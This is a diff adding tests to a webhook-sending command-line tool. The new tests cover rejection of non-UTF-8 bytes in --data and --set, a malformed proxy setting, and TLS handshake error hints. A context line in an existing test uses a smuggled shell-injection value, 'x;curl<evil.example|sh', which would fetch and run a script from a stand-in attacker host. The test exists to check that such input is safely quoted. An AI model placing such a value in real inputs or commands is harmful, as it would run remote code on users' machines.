@@ -47,6 +47,26 @@ async function outcome(
   return [exit, written.join("")];
 }
 
+it.each<[readonly string[], Record<string, string>, string]>([
+  [["--data", '{"a":"caf\uFFFD"}'], {}, "--data has bytes that are not UTF-8"],
+  [["--data", "{}", "--set", "a=caf\uFFFD"], {}, "--set has bytes that are not UTF-8"],
+  [["--data", "{}"], { HTTPS_PROXY: "http://[bad" }, ""],
+])("%j: bytes that Node could not read are not sent as U+FFFD", async (flags, env, said) => {
+  const argv = ["send", LISTENER, "--secret-file", path("secret.txt"), "--dry-run", ...flags];
+  const [code, shown] = await outcome(argv, env);
+  expect([code, shown]).toEqual([said === "" ? 0 : 3, expect.stringContaining(said)]);
+});
+
+it("a failed handshake of TLS is told by OpenSSL's own words, however deep they lie", () => {
+  const hint = (words: string) => {
+    const cause = new Error("TLS failed", { cause: new Error(`write EPROTO ${words}`) });
+    return connectionHint("TLS_FAILED", "TLS failed: localhost:4713 (EPROTO).", cause);
+  };
+  expect(hint("sslv3 alert handshake failure")).toContain("--cert <file>");
+  expect(hint("tlsv1 alert protocol version")).toContain("older version of TLS");
+  expect(hint("wrong version number")).toContain("use http://");
+});
+
 it("an event's id of its own form is one word in the command to paste", async () => {
   const record = {
     ...{ v: 1, type: "event", at: Date.now(), eventId: "x;curl<evil.example|sh", url: LISTENER },
